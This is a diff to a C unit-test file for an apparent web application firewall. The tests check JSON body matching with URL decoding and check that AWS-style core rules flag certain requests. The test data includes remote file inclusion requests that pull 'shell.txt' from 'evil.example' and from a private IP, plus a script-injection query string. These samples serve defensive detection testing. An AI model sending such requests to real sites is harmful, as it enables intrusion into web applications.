@@ -617,6 +617,15 @@ static void test_json_body_inspects_keys_or_values(void **state) {
     assert_true(blocks(w, "POST", "/", body, NULL));
     assert_false(blocks(w, "POST", "/", "{\"other\":\"b\"}", NULL));
     gw_waf_free(w);
+    /* Numbers are formatted one after another in the same buffer: the second (1e+20, whose '+'
+     * URL_DECODE turns into a space) is transformed as itself, not as the first (12345). */
+    w = open_acl(ONE_RULE(
+        "{'ByteMatchStatement':{'SearchString':'1e 20','FieldToMatch':{'JsonBody':{"
+        "'MatchPattern':{'All':{}},'MatchScope':'VALUE'}},'PositionalConstraint':'EXACTLY',"
+        "'TextTransformations':[{'Priority':0,'Type':'URL_DECODE'}]}}"));
+    assert_true(blocks(w, "POST", "/", "{\"a\":12345,\"b\":1e20}", NULL));
+    assert_false(blocks(w, "POST", "/", "{\"a\":12345,\"b\":12346}", NULL));
+    gw_waf_free(w);
 }
 
 /* ---- transformations ---------------------------------------------------------------------- */
@@ -806,6 +815,12 @@ static void test_default_acl_core_rule_set_blocks_with_aws_rule_names_and_labels
     expect(w, &q, CRS, "RestrictedExtensions_URIPATH", CRS_NS "RestrictedExtensions_URIPath");
     mk(&q, "GET", "/page?inc=http://10.1.2.3/shell.txt", NULL, UA, NULL);
     expect(w, &q, CRS, "GenericRFI_QUERYARGUMENTS", CRS_NS "GenericRFI_QueryArguments");
+    /* A URL ending in '?' (what the include appends becomes its query string) is RFI too... */
+    mk(&q, "GET", "/page?inc=https://evil.example/shell.txt%3F", NULL, UA, NULL);
+    expect(w, &q, CRS, "GenericRFI_QUERYARGUMENTS", CRS_NS "GenericRFI_QueryArguments");
+    /* ...an ordinary callback URL on a named host is not. */
+    mk(&q, "GET", "/hooks?url=https://hooks.example.com/in?id=7", NULL, UA, NULL);
+    expect(w, &q, NULL, NULL, NULL);
     mk(&q, "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", NULL, UA, NULL);
     expect(w, &q, CRS, "CrossSiteScripting_QUERYARGUMENTS",
            CRS_NS "CrossSiteScripting_QueryArguments");
